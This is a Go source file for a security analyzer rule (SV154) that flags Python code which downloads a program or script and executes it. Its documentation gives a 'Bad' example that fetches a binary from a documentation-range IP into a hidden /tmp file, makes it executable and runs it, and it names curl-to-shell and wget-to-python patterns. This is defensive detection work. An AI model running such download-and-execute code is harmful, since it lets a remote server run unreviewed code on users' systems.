package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strconv"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonDownloadExecute reports Python code that downloads a program or
// script and runs it.
var PythonDownloadExecute = register(&analyzer.Rule{
	ID:       "SV154",
	Name:     "python-download-execute",
	Title:    "Python downloads a program or script and runs it",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "python", "CWE-494", "CWE-829"},
	Inputs:   analyzer.InPython,
	Doc: `Python code fetches something from the network and executes it, so what runs is
decided by the server at run time, never reviewed, and can change after the skill
was approved:

- a file written from a download (` + "`urlretrieve`" + `, ` + "`open(p, 'wb').write(resp.content)`" + `,
  ` + "`Path.write_bytes`" + `, ` + "`shutil.copyfileobj`" + `) that is then made executable (` + "`os.chmod`" + ` with an
  execute bit, ` + "`chmod +x`" + `) or run (` + "`subprocess`" + `, ` + "`os.system`" + `, ` + "`os.startfile`" + `,
  ` + "`runpy.run_path`" + `, an interpreter given the path);
- a shell command whose text downloads and runs (` + "`curl … | sh`" + `, ` + "`bash -c \"$(curl …)\"`" + `,
  ` + "`wget -O- | python3`" + `);
- a command taken from an HTTP response: the shell string, or, in an argument list, the
  program or the script or ` + "`-c`" + ` code an interpreter is given. Downloaded data passed as an
  ordinary argument (` + "`[sys.executable, 'extract.py', paper_id]`" + `) is data, and a variable is
  followed through the assignments in its own function, not a same-named one elsewhere.

All are **critical**. (` + "`exec`" + ` of downloaded code is SV151; commands read from a
socket are SV153.)

**Fix:** vendor the tool in the skill, or install it from a package manager with a
pinned version and checksum, and tell the user what will be installed.

Bad:

` + "```python" + `
import os, urllib.request
urllib.request.urlretrieve("http://203.0.113.7/agent", "/tmp/.agent")
os.chmod("/tmp/.agent", 0o755)
os.system("/tmp/.agent &")
` + "```" + `

Good:

` + "```python" + `
import subprocess
subprocess.run(["pip", "install", "black==24.8.0"], check=True)
` + "```",
	Run: runPythonDownloadExecute,
})

func runPythonDownloadExecute(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	files := pyfacts.DownloadedFiles(m)
	chmodded := map[int]bool{}
	for _, c := range m.Calls {
		start, end := m.Span(c)
		a, b, how, isShell := pyfacts.ShellCommand(m, c)
		if isShell {
			if cmd, ok := m.Fold(a, b); ok && pyfacts.DownloadsAndRuns.MatchString(cmd) {
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
					Message: how + " downloads a script and runs it: " + pyfacts.ClipStr(cmd, 80)})
				continue
			}
		}
		runner := isShell || pyfacts.SubprocessCalls[c.Name] || pyfacts.HasPrefixAny(c.Name, pyfacts.ExecCalls...) ||
			c.Name == "os.startfile" || c.Name == "runpy.run_path" || c.Name == "os.execv" || c.Name == "os.execvp"
		if runner {
			if len(c.Args) > 0 {
				// only what decides the code counts: the shell string, or
				// the program (and an interpreter's script) of an argument
				// list; downloaded data in other arguments is data
				slots := [][2]int{{a, b}}
				if !isShell {
					slots = pyfacts.CodeSlots(m, c.Args[0].Start, c.Args[0].End)
				}
				reported := false
				opener := pyOpener(m, c)
				for _, sl := range slots {
					if r, ok := pyfacts.FromNetwork(m, sl[0], sl[1]); ok {
						if _, sock := pyfacts.FromSocketRecv(m, sl[0], sl[1]); !sock {
							if opener != "" {
								// subprocess.run(["open", result["url"]]): a
								// page the response names, opened in the browser
								pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Medium,
									Message: c.Name + " has " + opener + " open a URL taken from an HTTP response (" + r.Name + ")"})
							} else {
								pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
									Message: c.Name + " runs a command taken from an HTTP response (" + r.Name + ")"})
							}
							reported = true
							break
						}
					}
				}
				if reported {
					continue
				}
			}
			for k, f := range files {
				if pyRunsFile(m, c, f.Keys, isShell, a, b) {
					pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
						Message: "runs a file downloaded at line " + pyfacts.LineOf(m, f.Call.Head) + pyfacts.FromNote(f.URL)})
					chmodded[k] = true
					break
				}
			}
			continue
		}
		if c.Name == "os.chmod" || c.Name == "os.fchmod" || strings.HasSuffix(c.Name, ".chmod") {
			mode, ok := c.Arg(1, "mode")
			if !ok && strings.HasSuffix(c.Name, ".chmod") {
				mode, ok = c.Arg(0, "mode")
			}
			if !ok || !pyExecMode(m, mode) {
				continue
			}
			for k, f := range files {
				if !chmodded[k] && len(c.Args) > 0 && pyfacts.Mentions(m, c.Args[0].Start, c.Args[0].End, "", f.Keys) {
					pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
						Message: "makes a file downloaded at line " + pyfacts.LineOf(m, f.Call.Head) + " executable" + pyfacts.FromNote(f.URL)})
					chmodded[k] = true
					break
				}
			}
		}
	}
	return nil
}

var pyInterpreters = map[string]bool{"python": true, "python3": true, "python2": true, "sh": true, "bash": true,
	"zsh": true, "node": true, "perl": true, "ruby": true, "pwsh": true, "powershell": true, "cmd": true,
	"cmd.exe": true, "sudo": true, "nohup": true, "env": true, "exec": true, "setsid": true, "start": true}

// pyRunsFile reports whether a process-starting call runs the file: as the
// program, or as the script given to an interpreter. A file passed as data
// to another program is not run.
func pyRunsFile(m *python.Module, c *python.Call, keys []string, isShell bool, a, b int) bool {
	if isShell {
		if cmd, ok := m.Fold(a, b); ok {
			for _, part := range shellSplitRx.Split(cmd, -1) {
				words := strings.Fields(part)
				for len(words) > 1 && (pyInterpreters[pyfacts.BaseName(words[0])] || strings.HasPrefix(words[0], "-")) {
					words = words[1:]
				}
				for len(words) > 1 && strings.HasPrefix(words[0], "-") {
					words = words[1:]
				}
				if len(words) > 0 && pyfacts.Mentions(m, 0, 0, words[0], keys) {
					return true
				}
			}
			return false
		}
		return pyfacts.Mentions(m, a, b, "", keys)
	}
	arg, ok := c.Arg(0, "")
	if !ok {
		return false
	}
	items, isList := pyfacts.ArgList(m, arg)
	if !isList && m.Is(arg.Start, "[") && int(m.Match[arg.Start]) < arg.End-1 && int(m.Match[arg.Start]) > arg.Start {
		// ["magick", "montage"] + [str(p) for p in images]: the program
		// is the first list's first item
		first := python.Arg{Start: arg.Start, End: int(m.Match[arg.Start]) + 1}
		items, isList = pyfacts.ArgList(m, first)
	}
	if !isList {
		if c.Name == "os.execl" || c.Name == "os.execlp" || strings.HasPrefix(c.Name, "os.spawnl") {
			items = nil
			for _, x := range c.Args {
				items = append(items, [2]int{x.Start, x.End})
			}
		} else {
			return pyfacts.Mentions(m, arg.Start, arg.End, "", keys)
		}
	}
	for _, it := range items {
		if pyfacts.Mentions(m, it[0], it[1], "", keys) {
			return true
		}
		prog, ok := m.Fold(it[0], it[1])
		if !ok || !(pyInterpreters[pyfacts.BaseName(prog)] || strings.HasPrefix(prog, "-")) {
			return false
		}
	}
	return false
}

// pyOpeners open a document or URL with its default application.
var pyOpeners = map[string]bool{"open": true, "xdg-open": true, "start": true, "wslview": true, "explorer": true,
	"explorer.exe": true, "sensible-browser": true, "x-www-browser": true, "gio": true}

// pyOpener returns the opener an argument list starts with
// (["open", url], ["start", url]), or "".
func pyOpener(m *python.Module, c *python.Call) string {
	arg, ok := c.Arg(0, "")
	if !ok {
		return ""
	}
	items, isList := pyfacts.ArgList(m, arg)
	if !isList || len(items) < 2 {
		return ""
	}
	prog, ok := m.Fold(items[0][0], items[0][1])
	if !ok || !pyOpeners[pyfacts.BaseName(prog)] {
		return ""
	}
	return prog
}

var shellSplitRx = match.MustRx(`&&|\|\||[;&|\n]`)

// pyExecMode reports a chmod mode with an execute bit.
func pyExecMode(m *python.Module, a python.Arg) bool {
	t := m.ArgText(a)
	if strings.Contains(t, "S_IX") || strings.Contains(t, "S_IEXEC") || strings.Contains(t, "S_IRWX") {
		return true
	}
	if a.End-a.Start == 1 && m.Toks[a.Start].Kind == python.Number {
		n, err := strconv.ParseInt(t, 0, 64)
		return err == nil && n&0o111 != 0
	}
	return false
}
